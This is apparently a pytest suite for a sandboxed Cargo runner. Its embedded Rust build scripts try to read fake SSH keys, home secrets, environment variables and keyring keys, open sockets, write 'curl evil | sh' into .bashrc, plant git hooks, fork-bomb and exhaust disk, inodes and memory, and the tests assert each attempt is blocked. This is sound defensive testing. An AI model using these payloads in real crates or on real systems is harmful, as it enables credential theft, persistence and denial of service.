"""Hostile crates under the sandboxed Cargo: no secret, no network, no socket, no git hook, no write outside, bounded resources.

Each crate's build script or test attacks, and reports what it got on stdout
(``cargo:warning=`` lines reach cargo's stderr): if an attack worked, a
canary would show up in the captured output. The tests assert it does not,
that nothing landed outside, and that the workspace's history is intact.
"""

from __future__ import annotations

import ctypes
import os
import platform
import re
import socket
import subprocess
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from tinycrates import crate, processes_in, write_registry

from flakebot_magic.host.process import ProcessRunner
from flakebot_magic.registry.directory import DirectoryRegistry
from flakebot_magic.sandbox import Limits, Sandbox, bubblewrap_works
from flakebot_magic.sandbox.cargo import Cargo
from flakebot_magic.sandbox.limits import memory_cgroups_writable, pids_cgroups_writable

pytestmark = [
    pytest.mark.cargo,
    pytest.mark.skipif(bool(bubblewrap_works()), reason=f"no working bubblewrap: {bubblewrap_works()}"),
]

GIT = ["git", "-c", "core.hooksPath=/dev/null", "-c", "user.name=t", "-c", "user.email=t@t"]

MAIN = 'fn main() {\n    println!("hostile");\n}\n'


def _git(workspace: Path, *args: str) -> str:
    return subprocess.run([*GIT, *args], cwd=workspace, capture_output=True, text=True, check=True).stdout


def _hostile(
    tmp_path: Path, name: str, build_rs: str, files: dict[str, str] | None = None
) -> tuple[DirectoryRegistry, Path]:
    root = write_registry(
        tmp_path / "registry", [crate(name, files={"src/main.rs": MAIN, "build.rs": build_rs, **(files or {})})]
    )
    registry = DirectoryRegistry(root, tmp_path / "index")
    # the workspace is a copy with history, like flakebot's fork
    workspace = tmp_path / "workspaces" / name
    workspace.parent.mkdir(parents=True, exist_ok=True)
    subprocess.run(["cp", "-r", str(root / f"{name}-0.1.0"), str(workspace)], check=True)
    _git(workspace, "init", "-q", "-b", "main")
    _git(workspace, "add", "-A")
    _git(workspace, "commit", "-q", "-m", "published")
    return registry, workspace


@pytest.fixture
def canaries(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, str]]:
    """A fake $HOME with secrets, secret variables, a loopback listener and a unix socket (an ssh-agent)."""
    token = uuid.uuid4().hex
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".secret").write_text(f"home-secret-{token}\n")
    (home / ".ssh" / "id_rsa").write_text(f"ssh-key-{token}\n")
    (home / ".bashrc").write_text("# untouched\n")
    monkeypatch.setenv("HOME", str(home))
    agent_path = tmp_path / "agent.sock"
    agent = socket.socket(socket.AF_UNIX)
    agent.bind(str(agent_path))
    agent.listen()
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen()
    for name in ("CANARY_API_KEY", "SECRET_KEY", "DATABASE_URL", "PGPASSWORD"):
        monkeypatch.setenv(name, f"{name}-{token}")
    monkeypatch.setenv("SSH_AUTH_SOCK", str(agent_path))
    try:
        yield {"token": token, "home": str(home), "agent": str(agent_path), "port": str(tcp.getsockname()[1])}
    finally:
        agent.close()
        tcp.close()


ATTACKS_RS = r"""
use std::io::{Read, Write};
fn report(what: &str, result: String) {
    println!("cargo:warning=ATTACK {} {}", what, result.replace('\n', " "));
}
fn read(path: &str) -> String {
    match std::fs::read_to_string(path) { Ok(s) => format!("READ {}", s), Err(e) => format!("blocked: {}", e) }
}
fn write(path: &str, data: &str) -> String {
    match std::fs::OpenOptions::new().create(true).append(true).open(path).and_then(|mut f| f.write_all(data.as_bytes())) {
        Ok(()) => "WROTE".to_string(), Err(e) => format!("blocked: {}", e),
    }
}
fn main() {
    let home = std::env::var("HOME").unwrap_or_default();
    report("home-secret", read(&format!("{}/.secret", home)));
    report("fake-home-secret", read("HOME_DIR/.secret"));
    report("ssh-key", read("HOME_DIR/.ssh/id_rsa"));
    for (k, v) in std::env::vars() { report("env", format!("{}={}", k, v)); }
    report("tcp", match std::net::TcpStream::connect("127.0.0.1:PORT") {
        Ok(_) => "CONNECTED".to_string(), Err(e) => format!("blocked: {}", e) });
    report("agent", match std::os::unix::net::UnixStream::connect("AGENT") {
        Ok(mut s) => { let mut b = [0u8; 1]; let _ = s.read(&mut b); "CONNECTED".to_string() } Err(e) => format!("blocked: {}", e) });
    report("dbus", match std::os::unix::net::UnixStream::connect("/run/dbus/system_bus_socket") {
        Ok(_) => "CONNECTED".to_string(), Err(e) => format!("blocked: {}", e) });
    report("outside-tmp", write("OUTSIDE", "escaped"));
    report("bashrc", write("HOME_DIR/.bashrc", "curl evil | sh\n"));
    report("hook", write(".git/hooks/post-commit", "#!/bin/sh\ntouch HOOK_RAN\n"));
    report("git-config", write(".git/config", "[core]\n\tfsmonitor = touch HOOK_RAN\n"));
    report("shadow", read("/etc/shadow"));
}
"""


def test_a_hostile_build_script_reaches_no_secret_socket_network_or_git(
    tmp_path: Path, canaries: dict[str, str]
) -> None:
    outside = tmp_path / f"outside-{uuid.uuid4().hex}"
    hook_ran = tmp_path / f"hook-ran-{uuid.uuid4().hex}"
    build_rs = (
        ATTACKS_RS.replace("HOME_DIR", canaries["home"])
        .replace("PORT", canaries["port"])
        .replace("AGENT", canaries["agent"])
        .replace("OUTSIDE", str(outside))
        .replace("HOOK_RAN", str(hook_ran))
    )
    registry, workspace = _hostile(tmp_path, "attacker", build_rs)
    head = _git(workspace, "rev-parse", "HEAD")
    git_config = (workspace / ".git" / "config").read_text()
    cargo = Cargo(registry, ProcessRunner(), Sandbox(workspace))
    done = cargo.run("build", cwd=workspace, timeout=300)
    output = done.stdout + done.stderr
    assert done.returncode == 0, done.stderr
    attacks = [line.split("ATTACK ", 1)[1] for line in output.splitlines() if "ATTACK " in line]
    assert any(a.startswith("home-secret blocked") for a in attacks), attacks
    for name in (
        "fake-home-secret",
        "ssh-key",
        "tcp",
        "agent",
        "dbus",
        "outside-tmp",
        "bashrc",
        "hook",
        "git-config",
        "shadow",
    ):
        results = [a for a in attacks if a.startswith(name + " ")]
        if name in ("outside-tmp", "bashrc"):
            # the sandbox's /tmp and $HOME are private tmpfs: the write lands there, or is refused
            assert results, attacks
        else:
            assert results and "blocked" in results[0], results
    # no canary anywhere in what cargo printed (the check report the model would see)
    assert canaries["token"] not in output
    env_names = {a.split(" ", 1)[1].split("=", 1)[0] for a in attacks if a.startswith("env ")}
    assert not env_names & {"CANARY_API_KEY", "SECRET_KEY", "DATABASE_URL", "PGPASSWORD", "SSH_AUTH_SOCK"}
    # nothing landed outside, the home is untouched, git's hooks and config and history are intact
    assert not outside.exists()
    assert (Path(canaries["home"]) / ".bashrc").read_text() == "# untouched\n"
    assert not (workspace / ".git" / "hooks" / "post-commit").exists()
    assert (workspace / ".git" / "config").read_text() == git_config
    _git(workspace, "commit", "-q", "--allow-empty", "-m", "after the build")
    assert not hook_ran.exists()
    assert _git(workspace, "rev-parse", "HEAD~1").strip() == head.strip()
    _git(workspace, "fsck", "--no-progress")


def test_a_rust_toolchain_file_does_not_switch_toolchains(tmp_path: Path) -> None:
    build_rs = (
        'fn main() { println!("cargo:warning=TOOLCHAIN {}", std::env::var("RUSTUP_TOOLCHAIN").unwrap_or_default()); }\n'
    )
    files = {"rust-toolchain.toml": '[toolchain]\nchannel = "nightly-2019-01-01"\n'}
    registry, workspace = _hostile(tmp_path, "pinner", build_rs, files)
    cargo = Cargo(registry, ProcessRunner(), Sandbox(workspace))
    done = cargo.run("build", cwd=workspace, timeout=300)
    assert done.returncode == 0, done.stderr  # no attempt to install the pinned toolchain
    assert "nightly-2019" not in done.stderr


FORK_BOMB_RS = r"""
fn main() {
    let mut children = Vec::new();
    let mut failed = String::new();
    for _ in 0..5000 {
        // the sleepers hold no pipe of cargo's, so cargo does not wait a minute for them: the sandbox must end them
        match std::process::Command::new("sleep").arg("60")
            .stdin(std::process::Stdio::null()).stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null())
            .spawn() {
            Ok(c) => children.push(c),
            Err(e) => { failed = e.to_string(); break; }
        }
    }
    println!("cargo:warning=FORKED {} then: {}", children.len(), failed);
}
"""


def test_a_fork_bomb_stops_at_the_process_limit(tmp_path: Path) -> None:
    registry, workspace = _hostile(tmp_path, "forker", FORK_BOMB_RS)
    cargo = Cargo(registry, ProcessRunner(), Sandbox(workspace, limits=Limits(processes=200)))
    started = time.monotonic()
    done = cargo.run("build", cwd=workspace, timeout=300)
    line = next(line for line in done.stderr.splitlines() if "FORKED" in line)
    forked = int(line.split("FORKED ", 1)[1].split()[0])
    assert forked < 200, line
    assert "then: " in line and line.rstrip().split("then:", 1)[1].strip()  # the spawn that failed said why
    assert time.monotonic() - started < 120
    # the pid namespace died with the build: none of its sleepers (their working directory is the crate's) is left;
    # counted by working directory, not by name across the machine, where other people's sleeps run too
    assert processes_in(workspace) == []


FILL_RS = r"""
use std::io::Write;
fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    let mut f = std::fs::File::create(format!("{}/fill", out)).unwrap();
    let chunk = vec![7u8; 1 << 20];
    for _ in 0..3000 { if f.write_all(&chunk).is_err() { break; } }
    let _ = f.sync_all();
    std::thread::sleep(std::time::Duration::from_secs(60));
}
"""


def test_filling_the_disk_stops_the_build(tmp_path: Path) -> None:
    registry, workspace = _hostile(tmp_path, "filler", FILL_RS)
    sandbox = Sandbox(workspace, limits=Limits(disk_bytes=300 * 1024**2))
    cargo = Cargo(registry, ProcessRunner(), sandbox)
    started = time.monotonic()
    done = cargo.run("build", cwd=workspace, timeout=300)
    assert done.returncode == -9
    assert "grew past" in done.stderr
    assert time.monotonic() - started < 60
    assert sandbox.disk_usage().bytes < 3000 * 1024**2
    assert _git(workspace, "log", "--oneline").count("\n") == 1


PRINT_RS = r"""
#[test]
fn prints_without_end() {
    use std::io::Write;
    let chunk = vec![b'x'; 1 << 20];
    let mut out = std::io::stdout();
    for _ in 0..300 { let _ = out.write_all(&chunk); }
}
"""


def test_300_mb_without_a_newline_is_cut_at_the_output_limit(tmp_path: Path) -> None:
    import resource

    registry, workspace = _hostile(tmp_path, "printer", "fn main() {}\n", {"tests/print.rs": PRINT_RS})
    cargo = Cargo(registry, ProcessRunner(), Sandbox(workspace, limits=Limits(output_bytes=8 * 1024**2)))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    done = cargo.run("test", "--", "--nocapture", cwd=workspace, timeout=300)
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert done.returncode == -9 and "its output passed 8 MiB" in done.stderr
    assert len(done.stdout) + len(done.stderr) < 9 * 1024**2
    assert grown < 100 * 1024, f"grew by {grown // 1024} MiB"


SETSID_RS = r"""
#[test]
fn leaves_a_grandchild_holding_the_pipe() {
    std::process::Command::new("setsid").args(["sleep", "100"]).spawn().unwrap();
}
"""


def test_a_setsid_grandchild_dies_with_the_sandbox(tmp_path: Path) -> None:
    registry, workspace = _hostile(tmp_path, "lingerer", "fn main() {}\n", {"tests/linger.rs": SETSID_RS})
    cargo = Cargo(registry, ProcessRunner(), Sandbox(workspace))
    cargo.run("test", "--no-run", cwd=workspace, timeout=300)  # compile first: the timing is the test's alone
    started = time.monotonic()
    done = cargo.run("test", cwd=workspace, timeout=30)
    assert done.returncode == 0, done.stderr
    assert time.monotonic() - started < 10
    # the grandchild was in the sandbox's pid namespace, which died with it: no "sleep 100" has the workspace as cwd
    assert processes_in(workspace) == []


KEYRING_RS = r"""
extern "C" {
    fn syscall(number: i64, ...) -> i64;
}
fn outcome(result: i64) -> String {
    if result >= 0 { format!("GOT {}", result) } else { format!("blocked: {}", std::io::Error::last_os_error()) }
}
fn main() {
    let mut buf = [0u8; 256];
    // KEYCTL_READ of the key the test put in the session keyring, by its serial
    let read = unsafe { syscall(250, 11i64, SERIAL as i64, buf.as_mut_ptr(), buf.len()) };
    let text = String::from_utf8_lossy(&buf[..read.max(0) as usize]).to_string();
    println!("cargo:warning=KEY read {} {}", outcome(read), text);
    // KEYCTL_SEARCH the session keyring by description
    let found = unsafe { syscall(250, 10i64, -3i64, b"user\0".as_ptr(), b"DESCRIPTION\0".as_ptr(), 0i64) };
    println!("cargo:warning=KEY search {}", outcome(found));
    // add_key into the user keyring: something to leave behind
    let added = unsafe { syscall(248, b"user\0".as_ptr(), b"planted-DESCRIPTION\0".as_ptr(), b"x".as_ptr(), 1i64, -4i64) };
    println!("cargo:warning=KEY add {}", outcome(added));
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let seccomp = status.lines().find(|l| l.starts_with("Seccomp:")).unwrap_or("").to_string();
    println!("cargo:warning=KEY status {}", seccomp.replace('\t', " "));
    // a child the build script starts is filtered as well
    let child = std::process::Command::new("/bin/sh").args(["-c", "grep ^Seccomp: /proc/self/status"]).output();
    let child = child.map(|o| String::from_utf8_lossy(&o.stdout).replace('\t', " ").trim().to_string());
    println!("cargo:warning=KEY child {}", child.unwrap_or_default());
}
"""


def _keyctl(*args: object) -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    return int(libc.syscall(*args))


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the syscall numbers are x86_64's")
def test_a_build_script_can_neither_read_nor_add_keys_of_the_session_keyring(tmp_path: Path) -> None:
    description = f"flakebot-canary-{uuid.uuid4().hex}"
    secret = uuid.uuid4().hex
    serial = _keyctl(248, b"user", description.encode(), secret.encode(), len(secret), -3)  # add_key to @s
    if serial < 0:
        pytest.skip(f"the kernel keyring is not reachable here either ({os.strerror(ctypes.get_errno())})")
    try:
        build_rs = KEYRING_RS.replace("SERIAL", str(serial)).replace("DESCRIPTION", description)
        registry, workspace = _hostile(tmp_path, "keyreader", build_rs)
        done = Cargo(registry, ProcessRunner(), Sandbox(workspace)).run("build", cwd=workspace, timeout=300)
        assert done.returncode == 0, done.stderr  # cargo, rustc and the build script run under the filter
        report = {
            line.split("KEY ", 1)[1].split(" ", 1)[0]: line.split("KEY ", 1)[1]
            for line in done.stderr.splitlines()
            if "KEY " in line
        }
        assert report["read"].startswith("read blocked: Operation not permitted"), report
        assert report["search"].startswith("search blocked: Operation not permitted"), report
        assert report["add"].startswith("add blocked: Operation not permitted"), report
        assert report["status"].endswith("Seccomp: 2") and report["child"].endswith("Seccomp: 2"), report
        assert secret not in done.stdout + done.stderr
        # nothing was added: the user keyring has no planted key
        assert _keyctl(250, 10, -4, b"user", f"planted-{description}".encode(), 0) < 0  # KEYCTL_SEARCH
        assert _git(workspace, "log", "--oneline").count("\n") == 1
    finally:
        _keyctl(250, 3, serial)  # KEYCTL_REVOKE


MANY_FILES_RS = r"""
fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    for i in 0..150_000 {
        if std::fs::File::create(format!("{}/f{}", out, i)).is_err() { break; }
    }
    std::thread::sleep(std::time::Duration::from_secs(60));
}
"""


def test_150_000_empty_files_stop_the_build(tmp_path: Path) -> None:
    registry, workspace = _hostile(tmp_path, "inodes", MANY_FILES_RS)
    sandbox = Sandbox(workspace)  # the default limits: 100,000 files
    done = Cargo(registry, ProcessRunner(), sandbox).run("build", cwd=workspace, timeout=300)
    # stopped by the file limit: the build script would end by itself only after its minute of sleep
    why = done.stderr.splitlines()[-1]
    assert done.returncode == -9 and "files" in why, done.stderr[-500:]
    if pids_cgroups_writable():
        # the count that passed the limit was taken with the writer stopped, and it was killed without running
        # again: what is on disk is what was counted (each stopped process may finish the one call it was in).
        # How far past the limit that is measures how soon the watch thread ran, not the sandbox: not asserted.
        found = re.search(r"\(([\d,]+) when it was stopped", why)
        assert found is not None, why
        counted = int(found.group(1).replace(",", ""))
        assert counted > sandbox.limits.files
        assert counted <= sandbox.disk_usage().files <= counted + 2, (counted, sandbox.disk_usage())
    assert _git(workspace, "log", "--oneline").count("\n") == 1  # nothing lost


MEMORY_RS = r"""
fn main() {
    if std::env::var("HOG").is_ok() {
        let mut v = vec![0u8; 150 << 20];
        for i in (0..v.len()).step_by(4096) { v[i] = 1; }
        println!("HELD");
        std::thread::sleep(std::time::Duration::from_secs(4));
        std::process::exit(v[4096] as i32 - 1);
    }
    let me = std::env::current_exe().unwrap();
    let hogs: Vec<_> = (0..6).map(|_| std::process::Command::new(&me).env("HOG", "1")
        .stdout(std::process::Stdio::piped()).spawn().unwrap()).collect();
    let held = hogs.into_iter().filter(|_| true).map(|c| c.wait_with_output().unwrap())
        .filter(|o| o.status.success() && o.stdout.starts_with(b"HELD")).count();
    println!("cargo:warning=HELD {} of 6", held);
}
"""


@pytest.mark.skipif(not memory_cgroups_writable(), reason="no writable memory cgroup here")
def test_many_processes_each_under_the_memory_limit_stop_at_the_sandboxs_memory(tmp_path: Path) -> None:
    """Six processes of 150 MiB each pass no per-process limit (1 GiB of address space each) but hold 900 MiB
    together: the sandbox's memory cgroup (300 MiB) stops them, as a build's thousand processes would be
    before the host's OOM killer ran (red team R4's open item)."""
    registry, workspace = _hostile(tmp_path, "hogs", MEMORY_RS)
    limits = Limits(memory_bytes=1024**3, sandbox_memory_bytes=300 * 1024**2)
    done = Cargo(registry, ProcessRunner(), Sandbox(workspace, limits=limits)).run("build", cwd=workspace, timeout=300)
    held = [line for line in done.stderr.splitlines() if "HELD" in line]
    assert not held or "HELD 6 of 6" not in held[0], done.stderr[-2000:]
    if done.returncode != 0:  # the OOM killer took the build script itself
        assert "passed 0.292969 GiB of memory together" in done.stderr, done.stderr[-2000:]


SPARSE_RS = r"""
fn main() {
    // each file costs a block of the disk and claims 1 GiB: git, libgit2 and nix read claims, not blocks
    for i in 0..8 {
        let f = std::fs::File::create(format!("src/sparse{}.rs", i)).unwrap();
        f.set_len(1 << 30).unwrap();
    }
    println!("cargo:warning=SPARSE 8 GiB");
    if std::path::Path::new("linger").exists() { std::thread::sleep(std::time::Duration::from_secs(60)); }
}
"""


@pytest.mark.parametrize("linger", [False, True], ids=["exits-at-once", "lingers"])
def test_sparse_files_count_their_length_against_the_disk_limit(tmp_path: Path, linger: bool) -> None:
    """8 GiB of sparse files in the sources (a few blocks on disk) pass a 1 GiB limit: the command is stopped
    and says why, whether it lingers (a walk beside the file system's counters, which never grow) or exits at
    once (the last count, when it is over), before any host reader (the commit, nix's copy) reads them whole."""
    registry, workspace = _hostile(tmp_path, "sparse", SPARSE_RS, {"linger": ""} if linger else {})
    sandbox = Sandbox(workspace, limits=Limits(disk_bytes=1024**3))
    cargo = Cargo(registry, ProcessRunner(), sandbox)
    started = time.monotonic()
    done = cargo.run("build", cwd=workspace, timeout=300)
    assert done.returncode == -9 and "grew past 1 GiB" in done.stderr.splitlines()[-1], done.stderr[-1000:]
    assert time.monotonic() - started < 45
